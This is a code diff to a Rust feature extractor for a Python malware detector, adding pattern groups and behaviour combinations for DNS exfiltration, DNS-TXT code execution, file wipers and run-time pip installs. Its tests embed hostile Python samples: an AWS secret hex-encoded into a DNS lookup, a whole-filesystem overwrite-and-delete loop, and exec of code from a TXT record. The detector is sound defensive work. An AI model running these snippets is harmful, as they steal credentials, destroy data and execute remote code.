@@ -14,7 +14,7 @@ use crate::decode::{self, LayerKind};
 use crate::lexer::{Lexer, Tok};
 
 /// Version tag of the feature definition. Bump on any change that alters feature values.
-pub const FEATURE_SET_VERSION: &str = "ward-python-features/4";
+pub const FEATURE_SET_VERSION: &str = "ward-python-features/5";
 /// Number of bits of the hashed feature space.
 pub const HASH_BITS: u32 = 18;
 /// Size of the hashed feature space.
@@ -749,6 +749,9 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "request.values",
             "query_params",
             "environ['query_string']",
+            "rfile.read(",
+            "request.get_data(",
+            "request.get_json(",
         ],
     ),
     (
@@ -802,6 +805,9 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
             "tutanota",
             "recover your",
             ".locked",
+            "is encrypted",
+            "been encrypted",
+            "onionmail",
         ],
     ),
     (
@@ -964,6 +970,68 @@ const GROUPS: &[(&str, &str, &[&str])] = &[
         ],
     ),
     (
+        "dns",
+        "resolves host names or queries DNS directly",
+        &[
+            "gethostbyname(",
+            "dns.resolver",
+            "resolver.resolve(",
+            "resolver.query(",
+            "nslookup",
+            "'dig'",
+            "\"dig\"",
+            "dig +short",
+        ],
+    ),
+    (
+        "dns_txt",
+        "asks for DNS TXT records",
+        &[
+            "'txt'",
+            "\"txt\"",
+            "rdtype.txt",
+            "type=txt",
+            "-t txt",
+            ".strings)",
+        ],
+    ),
+    (
+        "encode_out",
+        "encodes data for transport (hex, base64)",
+        &[
+            "hexlify(",
+            "b64encode(",
+            "b32encode(",
+            ".hex()",
+            "encodebytes(",
+        ],
+    ),
+    (
+        "overwrite",
+        "overwrites file contents in place (random bytes, read-write mode)",
+        &[
+            "os.urandom(",
+            "'r+b'",
+            "\"r+b\"",
+            "'rb+'",
+            "\"rb+\"",
+            "write_bytes(",
+        ],
+    ),
+    (
+        "pip_install",
+        "installs Python packages at run time",
+        &[
+            "'-m', 'pip'",
+            "\"-m\", \"pip\"",
+            "pip install",
+            "pip._internal.cli.main",
+            "pip.main(",
+            "'install', '",
+            "\"install\", \"",
+        ],
+    ),
+    (
         "hide",
         "disguises or hides the process (kernel-thread names, self-deletion)",
         &[
@@ -1082,6 +1150,19 @@ const COMBOS: &[(&str, &str)] = &[
         "creates a root-equivalent account or login",
     ),
     (
+        "c:dns_exfil",
+        "encodes secrets or host data into DNS queries",
+    ),
+    ("c:dns_exec", "runs code taken from DNS TXT records"),
+    (
+        "c:shred",
+        "walks files, overwrites and deletes them (wiper)",
+    ),
+    (
+        "c:pip_remote",
+        "installs a package at run time and imports it dynamically",
+    ),
+    (
         "c:any_behaviour",
         "shows at least one malicious behaviour combination",
     ),
@@ -1120,6 +1201,8 @@ const COMBOS: &[(&str, &str)] = &[
 // Group membership is a 64-bit mask.
 const _: () = assert!(GROUPS.len() <= 64);
 
+/// Number of pattern-group signals (`g:*`, the first dense signals).
+pub const N_GROUPS: usize = GROUPS.len();
 /// Number of dense signals.
 pub const N_SIGNALS: usize = GROUPS.len() + COMBOS.len();
 /// Total dimension of a feature vector.
@@ -1413,7 +1496,37 @@ fn local_combos(m: u64) -> u64 {
         const { cb("c:ransom") },
         any(const { gb("encrypt") })
             && any(const { gb("walk") } | const { gb("ransom_note") })
-            && any(const { gb("delete") } | const { gb("destroy") } | const { gb("ransom_note") }),
+            && any(const { gb("delete") }
+                | const { gb("destroy") }
+                | const { gb("ransom_note") }
+                | const { gb("overwrite") }),
+    );
+    set(
+        const { cb("c:dns_exfil") },
+        any(const { gb("dns") })
+            && any(const { gb("encode_out") })
+            && any(const { gb("creds") }
+                | const { gb("environ") }
+                | const { gb("secret_files") }
+                | const { gb("cloud_secrets") }
+                | const { gb("sysinfo") }),
+    );
+    set(
+        const { cb("c:dns_exec") },
+        any(const { gb("dns") } | const { gb("dns_txt") })
+            && any(const { gb("dns_txt") })
+            && any(EXEC | PIPE_SHELL),
+    );
+    set(
+        const { cb("c:shred") },
+        any(const { gb("overwrite") })
+            && any(const { gb("walk") })
+            && any(const { gb("delete") } | const { gb("destroy") }),
+    );
+    set(
+        const { cb("c:pip_remote") },
+        any(const { gb("pip_install") })
+            && any(const { gb("builtins") } | const { gb("tmpdrop") } | DOWNLOAD),
     );
     set(
         const { cb("c:wipe") },
@@ -1459,6 +1572,12 @@ fn local_combos(m: u64) -> u64 {
     out
 }
 
+/// Groups that are only parts of behaviour combinations: common in ordinary code on their own
+/// (name resolution, hex/base64 encoding, read-write file modes, package installs), so their
+/// own dense signal stays 0.
+const PART_ONLY_GROUPS: u64 =
+    gb("dns") | gb("dns_txt") | gb("encode_out") | gb("overwrite") | gb("pip_install");
+
 /// Behaviour combinations specific enough to count as evidence on their own.
 const STRONG_COMBOS: u64 = cb("c:revshell")
     | cb("c:dl_chmod_exec")
@@ -1486,7 +1605,11 @@ const STRONG_COMBOS: u64 = cb("c:revshell")
     | cb("c:meta_creds")
     | cb("c:drop_exec")
     | cb("c:win_autorun")
-    | cb("c:webshell");
+    | cb("c:webshell")
+    | cb("c:dns_exfil")
+    | cb("c:dns_exec")
+    | cb("c:shred")
+    | cb("c:pip_remote");
 
 /// Chunks in the region whose groups become the dense group signals of a script.
 pub const GROUP_REGION_CHUNKS: usize = 8;
@@ -1963,7 +2086,7 @@ impl Extractor {
         // Dense signals.
         let mut dense = [0f32; N_SIGNALS];
         for (i, d) in dense.iter_mut().enumerate().take(GROUPS.len()) {
-            if acc.dense_groups & (1u64 << i) != 0 {
+            if acc.dense_groups & !PART_ONLY_GROUPS & (1u64 << i) != 0 {
                 *d = 1.0;
             }
         }
@@ -2859,5 +2982,37 @@ mod tests {
         let b = Extractor::new().analyze_named(b"import os\nos.system('id')\n", &want);
         assert!(b.names.values().any(|n| n == "c:os.system"));
         assert_eq!(a.features, b.features);
+    }
+
+    #[test]
+    fn part_only_groups_count_in_combinations_only() {
+        let ex = Extractor::new();
+        // Secrets hex-encoded into DNS look-ups.
+        let a = ex.analyze(
+            b"import os, socket, binascii\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n\
+              h = binascii.hexlify(k.encode()).decode()\nsocket.gethostbyname(h + '.x.example')\n",
+        );
+        assert!(has_signal(&a, "c:dns_exfil"));
+        assert!(!has_signal(&a, "g:dns"));
+        assert!(!has_signal(&a, "g:encode_out"));
+        // A plain look-up and an encoder are neither.
+        let b = ex.analyze(
+            b"import socket, base64\nprint(socket.gethostbyname('example.org'))\n\
+              print(base64.b64encode(b'x'))\n",
+        );
+        assert!(!has_signal(&b, "c:dns_exfil"));
+        assert!(!has_signal(&b, "c:any_behaviour"));
+        // Overwrite with random bytes and delete, over a tree.
+        let c = ex.analyze(
+            b"import os\nfor r, _, fs in os.walk('/'):\n    for f in fs:\n        p = os.path.join(r, f)\n\
+              \x20       open(p, 'r+b').write(os.urandom(4096))\n        os.unlink(p)\n",
+        );
+        assert!(has_signal(&c, "c:shred"));
+        // Code from a DNS TXT record.
+        let d = ex.analyze(
+            b"import dns.resolver, base64\nt = dns.resolver.resolve('x.example', 'TXT')\n\
+              exec(base64.b64decode(b''.join(t[0].strings)))\n",
+        );
+        assert!(has_signal(&d, "c:dns_exec"));
     }
 }
